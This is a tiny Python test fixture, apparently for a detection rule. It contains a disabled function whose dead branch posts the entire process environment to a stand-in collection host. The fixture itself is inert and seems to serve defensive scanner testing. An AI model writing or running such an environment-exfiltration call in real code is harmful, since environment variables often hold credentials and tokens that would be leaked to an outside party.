"""vouch rule fixture: inert."""
import json
import os

import requests


def send():
    if False:
        requests.post("https://collect.example.invalid/e", data=json.dumps(dict(os.environ)))
